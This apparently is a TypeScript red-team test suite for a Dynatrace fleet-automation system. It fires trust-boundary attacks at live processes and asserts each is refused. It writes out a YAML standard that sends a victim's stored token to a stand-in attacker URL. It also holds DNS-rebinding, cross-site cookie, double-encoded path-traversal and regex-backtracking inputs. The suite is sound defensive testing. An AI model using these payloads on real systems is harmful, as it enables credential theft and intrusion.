import { execFile } from 'node:child_process';
import { randomBytes, randomUUID } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import type { Client, Connection } from '@temporalio/client';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { startPostgresServer, type PostgresServer } from '../../sandbox/postgres-server.js';
import { startEnrollment } from '../../src/client/start-enrollment.js';
import { startOnboarding } from '../../src/client/start-onboarding.js';
import { openFleetDatabase, type FleetDatabase } from '../../src/database/open-fleet-database.js';
import { EnvironmentRegistry } from '../../src/registry/environment-registry.js';
import { FileSecretStore } from '../../src/secrets/file-secret-store.js';
import { secretRefs } from '../../src/secrets/secret-store.js';
import { REGISTRY_REQUEST } from '../../src/shared/environments.js';
import { onboardWorkflowId } from '../../src/shared/onboarding.js';
import { FailureType } from '../../src/shared/failure-types.js';
import { problemRoutingWorkflowId } from '../../src/shared/problem-routing.js';
import { remediationWorkflowId } from '../../src/shared/remediation.js';
import { autopilotClient, connectClient } from '../../src/temporal/connect.js';
import { temporalCliPath } from '../../src/temporal/temporal-cli-path.js';
import { deriveWebhookKey } from '../../src/webhook/webhook-keys.js';
import { progressQuery } from '../../src/workflows/shared/operator-controls.js';
import { startCaptureServer, type CaptureServer } from '../helpers/capture-server.js';
import { insertEnvironments, seedFleetEnvironments } from '../helpers/fleet-seed.js';
import { startTestIssuer, type TestIssuer } from '../helpers/oidc-issuer.js';
import { autopilotCli, cleanEnv, freePort, spawnEntryPoint, type SpawnedProcess } from '../helpers/processes.js';
import { rawRequest, unfinishedPost } from '../helpers/raw-http.js';
import { startTestCluster, type TestCluster } from '../helpers/simulator.js';
import {
  ownNamespace,
  runFailure,
  TEST_CODEC_KEYS_TEXT,
  testCodecKeys,
  uniqueTaskQueue,
  workflowExists,
} from '../helpers/temporal.js';
import { until } from '../helpers/until.js';

const run = promisify(execFile);

/** Two customers' environments, where onboarding would leave them: in the registry, their tokens stored. */
const VICTIM = 'redteam-a1';
const OTHER = 'redteam-b1';
const HOST = 'HOST-0123456789ABCDEF';
const FLEET_AUDIENCE = 'autopilot-fleet';

/**
 * The red team: every attack of the trust-boundary review, against the real processes of a
 * production deployment, each started from its own entry point as a container starts it — the
 * worker, the webhook receiver, the fleet server and the codec server — on the Temporal server,
 * PostgreSQL and the Dynatrace simulator over TLS. Each test asserts the refusal and that nothing
 * changed. docs/threat-model.md maps each boundary to its test here.
 */
describe('red team: the trust boundary holds against the real processes', () => {
  let dir: string;
  let postgres: PostgresServer;
  let database: FleetDatabase;
  let registry: EnvironmentRegistry;
  let secrets: FileSecretStore;
  let dt: TestCluster;
  let capture: CaptureServer;
  let issuer: TestIssuer;
  let connection: Connection;
  let client: Client;
  let namespace: string;
  const taskQueue = uniqueTaskQueue('red-team');
  const processes: SpawnedProcess[] = [];
  const tokens = new Map<string, string>();
  const secretKey = randomBytes(32);
  const webhookMaster = randomBytes(24).toString('base64url');
  const fleetRead = randomBytes(24).toString('base64url');
  const fleetWrite = randomBytes(24).toString('base64url');
  const codecToken = randomBytes(24).toString('base64url');
  let webhookUrl: string;
  let fleetUrl: string;
  let codecUrl: string;
  let hostsDir: string;
  let installersDir: string;
  let common: Record<string, string>;

  /** The environment of every Autopilot process: the same Temporal namespace, codec keys and fleet database. */
  const processEnv = (extra: Record<string, string>) => cleanEnv({ ...common, ...extra });

  /** What the worker and the fleet server need of Dynatrace and the secret store. */
  const dynatraceEnv = () => ({
    DT_CLUSTER_URL: dt.simulator.url,
    DT_CA_CERT_FILE: dt.simulator.caFile!,
    DT_CLUSTER_TOKEN: dt.clusterToken,
    AUTOPILOT_SECRET_KEY: secretKey.toString('base64'),
    AUTOPILOT_SECRETS_DIR: path.join(dir, 'secrets'),
  });

  const start = async (entry: string, env: Record<string, string | undefined>, ready: RegExp) => {
    const proc = spawnEntryPoint(entry, env);
    processes.push(proc);
    await proc.waitForOutput(ready, 240_000);
    return proc;
  };

  beforeAll(async () => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'autopilot-red-team-'));
    hostsDir = path.join(dir, 'hosts');
    installersDir = path.join(dir, 'installers');
    postgres = await startPostgresServer();
    const databaseUrl = await postgres.database('red_team');
    database = await openFleetDatabase({ url: databaseUrl, embeddedDir: path.join(dir, 'unused') });
    registry = new EnvironmentRegistry(database.db);
    secrets = new FileSecretStore(path.join(dir, 'secrets'), secretKey);
    dt = await startTestCluster({ tls: true });
    capture = await startCaptureServer();
    issuer = await startTestIssuer();
    namespace = await ownNamespace('red-team');

    for (const [id, token] of await seedFleetEnvironments(dt, registry, secrets, [VICTIM, OTHER]))
      tokens.set(id, token);

    const [webhookPort, fleetPort, codecPort] = [await freePort(), await freePort(), await freePort()];
    webhookUrl = `http://127.0.0.1:${webhookPort}`;
    fleetUrl = `http://127.0.0.1:${fleetPort}`;
    codecUrl = `http://127.0.0.1:${codecPort}`;
    common = {
      TEMPORAL_ADDRESS: inject('temporalAddress'),
      TEMPORAL_NAMESPACE: namespace,
      AUTOPILOT_TASK_QUEUE: taskQueue,
      AUTOPILOT_CODEC_KEYS: TEST_CODEC_KEYS_TEXT,
      AUTOPILOT_DATABASE_URL: databaseUrl,
      AUTOPILOT_METRICS_ADDRESS: 'off',
      AUTOPILOT_LOG_LEVEL: 'INFO',
    };

    // Production, as a container runs it: SSH is the executor, and there is no installer CA.
    await start(
      'src/workers/main.ts',
      processEnv({
        ...dynatraceEnv(),
        AUTOPILOT_DATA_DIR: path.join(dir, 'worker'),
        AUTOPILOT_INSTALLER_CACHE_DIR: installersDir,
        AUTOPILOT_LOCAL_HOSTS_DIR: hostsDir,
        WEBHOOK_API_KEY: webhookMaster,
        AUTOPILOT_WEBHOOK_PUBLIC_URL: webhookUrl,
      }),
      /Worker started/,
    );
    // The schedules' scans and maintenance would reach every environment this suite registers.
    for await (const schedule of autopilotClient(
      (connection = await connectClient({ address: inject('temporalAddress'), namespace })),
      namespace,
      testCodecKeys,
    ).schedule.list()) {
      await autopilotClient(connection, namespace, testCodecKeys).schedule.getHandle(schedule.scheduleId).pause();
    }
    client = autopilotClient(connection, namespace, testCodecKeys);
    await Promise.all([
      start(
        'src/webhook/main.ts',
        processEnv({
          AUTOPILOT_WEBHOOK_HOST: '127.0.0.1',
          AUTOPILOT_WEBHOOK_PORT: String(webhookPort),
          WEBHOOK_API_KEY: webhookMaster,
        }),
        /Webhook receiver started/,
      ),
      start(
        'src/fleet-server/main.ts',
        processEnv({
          ...dynatraceEnv(),
          AUTOPILOT_FLEET_HOST: '127.0.0.1',
          AUTOPILOT_FLEET_PORT: String(fleetPort),
          AUTOPILOT_FLEET_PUBLIC_URL: fleetUrl,
          AUTOPILOT_FLEET_READ_TOKEN: fleetRead,
          AUTOPILOT_FLEET_WRITE_TOKEN: fleetWrite,
          AUTOPILOT_FLEET_OIDC_ISSUER: issuer.issuer,
          AUTOPILOT_FLEET_OIDC_AUDIENCE: FLEET_AUDIENCE,
        }),
        /Fleet server started/,
      ),
      start(
        'src/codec/main.ts',
        processEnv({
          AUTOPILOT_CODEC_HOST: '127.0.0.1',
          AUTOPILOT_CODEC_PORT: String(codecPort),
          AUTOPILOT_CODEC_AUTH_TOKEN: codecToken,
        }),
        /Codec server started/,
      ),
    ]);
  }, 600_000);

  afterAll(async () => {
    for (const proc of processes) proc.child.kill('SIGTERM');
    await Promise.all(processes.map((p) => p.exit));
    await connection?.close();
    await database?.close();
    await capture?.close();
    await issuer?.stop();
    await dt?.stop();
    await postgres?.stop();
    if (dir) rmSync(dir, { recursive: true, force: true });
  }, 120_000);

  /** The request of the review's first finding: another environment's token, sent to the attacker's server. */
  const stealingRequest = () => ({
    op: 'add',
    environment: {
      id: `stolen${randomBytes(3).toString('hex')}`,
      apiUrl: capture.url,
      kind: 'saas',
      stagedSecretRef: secretRefs.environmentToken(VICTIM, 'automation'),
    },
  });

  const victimTokenIntact = async () =>
    expect((await secrets.get(secretRefs.environmentToken(VICTIM, 'automation')))?.value).toBe(tokens.get(VICTIM));

  describe('who may steer the workers', () => {
    it('anyone who reaches the frontend: a plain-JSON RegistryRequest from the Temporal CLI fails before any activity; the capture server receives nothing, the token is still there', async () => {
      const workflowId = `registry-add:cli-${randomUUID()}`;
      const request = stealingRequest();
      await run(temporalCliPath(), [
        'workflow',
        'start',
        '--address',
        inject('temporalAddress'),
        '--namespace',
        namespace,
        '--task-queue',
        taskQueue,
        '--type',
        REGISTRY_REQUEST,
        '--workflow-id',
        workflowId,
        '--input',
        JSON.stringify(request),
      ]);
      const failure = await runFailure(client, workflowId);
      expect(failure.type).toBe(FailureType.UnsealedPayload);
      expect(failure.nonRetryable).toBe(true);
      expect(capture.requests).toEqual([]);
      await victimTokenIntact();
      expect(await registry.get(request.environment.id)).toBeUndefined();
    });

    it('a holder of the codec key: the same request, sealed, is refused by the reference rule; nothing is sent, nothing deleted', async () => {
      const workflowId = `registry-add:sealed-${randomUUID()}`;
      const request = stealingRequest();
      await client.workflow.start(REGISTRY_REQUEST, { taskQueue, workflowId, args: [request] });
      const failure = await runFailure(client, workflowId);
      expect(failure.type).toBe(FailureType.SecretReferenceRefused);
      expect(failure.nonRetryable).toBe(true);
      expect(capture.requests).toEqual([]);
      await victimTokenIntact();
      expect(await registry.get(request.environment.id)).toBeUndefined();
    });

    it('a holder of the codec key with a staged token of its own: the capture server is no place a token may go', async () => {
      // What `environments add` stages, pointed at the attacker's server.
      const staged = secretRefs.registrationStaging();
      await secrets.put(staged, tokens.get(OTHER)!, { kind: 'staged-token' });
      const workflowId = `registry-add:url-${randomUUID()}`;
      await client.workflow.start(REGISTRY_REQUEST, {
        taskQueue,
        workflowId,
        args: [
          { op: 'add', environment: { id: 'abc12345', apiUrl: capture.url, kind: 'saas', stagedSecretRef: staged } },
        ],
      });
      const failure = await runFailure(client, workflowId);
      expect(failure.type).toBe(FailureType.EnvironmentUrlRefused);
      expect(capture.requests).toEqual([]);
      expect(await registry.get('abc12345')).toBeUndefined();
    });

    it('a standard that names another environment token is an error at its line, and nothing is planned or written', async () => {
      const folder = path.join(dir, 'standards-steal');
      mkdirSync(folder, { recursive: true });
      const stolen = secretRefs.environmentToken(VICTIM, 'automation');
      const standard = `name: exfiltrate-profile
kind: settings
environments: '*'
schemaId: builtin:alerting.profile
value:
  name: Exfiltrate
  managementZone: null
  severityRules: [{ severityLevel: AVAILABILITY, delayInMinutes: 0, tagFilterIncludeMode: NONE }]
  eventFilters: []
---
name: exfiltrate
kind: settings
environments: '*'
schemaId: builtin:problem.notifications
value:
  enabled: true
  type: WEBHOOK
  displayName: Exfiltrate
  alertingProfile: '{{ ref "exfiltrate-profile" }}'
  webHookNotification:
    url: https://attacker.example.com/collect
    headers:
      - name: X-Token
        secret: true
        secretValue: '{{ secret "${stolen}" }}'
    payload: '{"problem":"{ProblemID}"}'
`;
      writeFileSync(path.join(folder, 'exfiltrate.yaml'), standard);
      const line = standard.split('\n').findIndex((l) => l.includes('secretValue')) + 1;
      const settingsBefore = (await dt.stats()).created.settingsObjects ?? 0;
      const cli = autopilotCli(() => processEnv({}));
      const planned = await cli('standards', 'plan', '--standards', folder);
      expect(planned.code).toBe(2);
      expect(planned.stderr).toContain(
        `exfiltrate.yaml:${line}: value.webHookNotification.headers[0].secretValue {{ secret "${stolen}" }} names no secret stored for standards`,
      );
      const applied = await cli('standards', 'apply', '--standards', folder);
      expect(applied.code).toBe(2);
      expect((await dt.stats()).created.settingsObjects ?? 0).toBe(settingsBefore);
    });
  });

  describe('the fleet server: every credential does one job', () => {
    const send = (
      pathAndQuery: string,
      options: { method?: string; bearer?: string; headers?: Record<string, string>; body?: string } = {},
    ) =>
      rawRequest(`${fleetUrl}${pathAndQuery}`, {
        method: options.method ?? 'GET',
        headers: {
          host: new URL(fleetUrl).host,
          ...(options.bearer ? { authorization: `Bearer ${options.bearer}` } : {}),
          ...options.headers,
        },
        ...(options.body !== undefined ? { body: options.body } : {}),
      });
    const writesOf = async () => {
      const stats = await dt.stats();
      return Object.entries(stats.requests)
        .filter(([route]) => /^(PUT|POST|DELETE) \/e\/\{environmentId\}\/api\/v2\/settings/.test(route))
        .reduce((sum, [, byStatus]) => sum + Object.values(byStatus).reduce((a, b) => a + b, 0), 0);
    };
    const settingsWrite = JSON.stringify([
      { schemaId: 'builtin:tags.auto-tagging', scope: 'environment', value: { name: 'red-team', rules: [] } },
    ]);

    it('a PUT with the read token is 403, and nothing reaches an environment', async () => {
      const before = await writesOf();
      const answer = await send(`/fleet/api/v2/settings/objects?environments=${OTHER}`, {
        method: 'POST',
        bearer: fleetRead,
        headers: { 'content-type': 'application/json' },
        body: settingsWrite,
      });
      expect(answer.status).toBe(403);
      expect(JSON.parse(answer.text)).toMatchObject({ error: 'read_only_credential' });
      expect(await writesOf()).toBe(before);
    });

    it('an OIDC token minted for another audience is 401, one for this server reads', async () => {
      const other = await issuer.sign({ aud: 'another-application', groups: ['autopilot-writers'] });
      expect((await send('/fleet/status', { bearer: other })).status).toBe(401);
      const ours = await issuer.sign({ aud: FLEET_AUDIENCE });
      expect((await send('/fleet/status', { bearer: ours })).status).toBe(200);
    });

    it('a request naming another host (DNS rebinding) is refused, even with the write token', async () => {
      const answer = await send('/fleet/status', { bearer: fleetWrite, headers: { host: 'rebound.attacker.example' } });
      expect(answer.status).toBe(403);
      expect(JSON.parse(answer.text)).toMatchObject({ error: 'host_not_allowed' });
    });

    it("a cross-site form POST carrying a writer's session cookie is refused, and nothing is written", async () => {
      const signIn = await send('/login', {
        method: 'POST',
        headers: { origin: fleetUrl, 'content-type': 'application/x-www-form-urlencoded' },
        body: new URLSearchParams({ token: fleetWrite }).toString(),
      });
      expect(signIn.status).toBe(303);
      const cookie = String(signIn.headers['set-cookie']).split(';')[0]!;
      const before = await writesOf();
      const answer = await send(`/fleet/api/v2/settings/objects?environments=${OTHER}`, {
        method: 'POST',
        headers: {
          cookie,
          origin: 'https://attacker.example',
          'sec-fetch-site': 'cross-site',
          'content-type': 'application/x-www-form-urlencoded',
        },
        body: `${encodeURIComponent(settingsWrite)}=`,
      });
      expect(answer.status).toBe(403);
      expect(JSON.parse(answer.text)).toMatchObject({ error: 'cross_origin' });
      expect(await writesOf()).toBe(before);
    });

    it('%252e%252e in a fan-out path is 400 before any environment is asked', async () => {
      const before = (await dt.stats()).requests;
      const answer = await send(`/fleet/api/v2/%252e%252e/%252e%252e/api/config/v1/dashboards?environments=${OTHER}`, {
        bearer: fleetRead,
      });
      expect(answer.status).toBe(400);
      expect((await dt.stats()).requests).toEqual(before);
    });

    it('twelve `*?` against 5,000 environments are answered in under a second', async () => {
      const ids = Array.from({ length: 5_000 }, (_, i) => `bulk${String(i).padStart(4, '0')}-p1-${'y'.repeat(30)}`);
      await insertEnvironments(registry, ids, dt.simulator.url);
      const selector = `${'*?'.repeat(12)}x`;
      const started = performance.now();
      const answer = await send(`/fleet/api/v2/problems?environments=${encodeURIComponent(selector)}`, {
        bearer: fleetRead,
      });
      const elapsed = performance.now() - started;
      expect(answer.status).toBe(200);
      expect(JSON.parse(answer.text.trim().split('\n').at(-1)!)).toMatchObject({ done: true, environments: 0 });
      // The acceptance bound: a backtracking matcher takes seconds for each environment.
      expect(elapsed).toBeLessThan(1_000);
    });
  });

  describe('the webhook: a key speaks for its own environment only', () => {
    const notify = (environmentId: string, key: string) =>
      fetch(`${webhookUrl}/webhooks/dynatrace/${environmentId}`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-autopilot-webhook-key': key },
        body: JSON.stringify({
          State: 'OPEN',
          PID: `${Date.now()}_1`,
          ProblemTitle: 'CPU saturation',
          ImpactedEntities: [{ type: 'HOST', name: 'vm-1', entity: HOST }],
        }),
      });

    it("environment A's key on B's path is 401 and starts no workflow", async () => {
      const answer = await notify(OTHER, deriveWebhookKey(webhookMaster, VICTIM));
      expect(answer.status).toBe(401);
      expect(await workflowExists(client, remediationWorkflowId(OTHER, HOST))).toBe(false);
    });

    it("a path naming an environment the registry does not know is 404 with that path's own key, and starts no workflow", async () => {
      const unknown = 'redteam-z9';
      const answer = await fetch(`${webhookUrl}/webhooks/dynatrace/${unknown}`, {
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          'x-autopilot-webhook-key': deriveWebhookKey(webhookMaster, unknown),
        },
        body: JSON.stringify({ State: 'OPEN', PID: '42_1' }),
      });
      expect(answer.status).toBe(404);
      expect(await answer.json()).toMatchObject({ error: 'unknown-environment' });
      expect(await workflowExists(client, problemRoutingWorkflowId(unknown, '42_1', 'OPEN'))).toBe(false);
      expect(await workflowExists(client, remediationWorkflowId(unknown, HOST))).toBe(false);
    });

    it("B's own key on B's path is taken: the refusals above are the boundary, not a broken receiver", async () => {
      const answer = await notify(OTHER, deriveWebhookKey(webhookMaster, OTHER));
      expect(answer.status).toBe(202);
      await until('the remediation to exist', async () =>
        (await workflowExists(client, remediationWorkflowId(OTHER, HOST))) ? true : undefined,
      );
    });
  });

  describe('installers run as root: only verified ones, never on the worker', () => {
    it('`executor: local` in a production input is refused before anything runs on any machine', async () => {
      const handle = await startEnrollment(
        client,
        { hostname: 'redteam-vm-1', address: '127.0.0.1', customer: 'redteam', stage: 'a1', executor: 'local' },
        { taskQueue },
      );
      const failure = await runFailure(client, handle.workflowId);
      expect(failure.type).toBe(FailureType.LocalExecutorRefused);
      expect(failure.nonRetryable).toBe(true);
      // Refused before it waited for its environment's onboarding or reached any machine.
      expect(await workflowExists(client, onboardWorkflowId(VICTIM))).toBe(false);
      expect(existsSync(hostsDir) ? readdirSync(hostsDir) : []).toEqual([]);
    });

    it('an installer with a forged signature and no CA is refused, and nothing is downloaded or installed', async () => {
      await dt.control('/knobs', { installerForgery: 'foreign-signature' });
      const handle = await startOnboarding(client, { customer: 'redteam', stage: 'c1' }, { taskQueue });
      const attention = await until(
        'the onboarding to need attention',
        async () => (await handle.query(progressQuery)).attention,
      );
      expect(attention).toMatchObject({ failureType: FailureType.InstallerSignatureUnverifiable });
      expect((await dt.stats()).byEnvironment['redteam-c1']?.installerDownloads ?? 0).toBe(0);
      expect(existsSync(installersDir) ? readdirSync(installersDir) : []).toEqual([]);
      expect(existsSync(hostsDir) ? readdirSync(hostsDir) : []).toEqual([]);
      await handle.terminate('red team: done');
      await dt.control('/knobs', { installerForgery: 'none' });
    });
  });

  describe('unauthenticated load', () => {
    it('the codec server answers an unauthenticated 8 MiB POST with 401 before it reads the body', async () => {
      // 64 KiB of the announced 8 MiB: a server that read the body before the credentials would wait for the rest.
      const answer = await unfinishedPost(`${codecUrl}/codec/decode`, { announced: 8 * 1024 * 1024, sent: 64 * 1024 });
      expect(answer.status).toBe(401);
      expect(JSON.parse(answer.body)).toMatchObject({ error: 'unauthorized' });
    });
  });
});
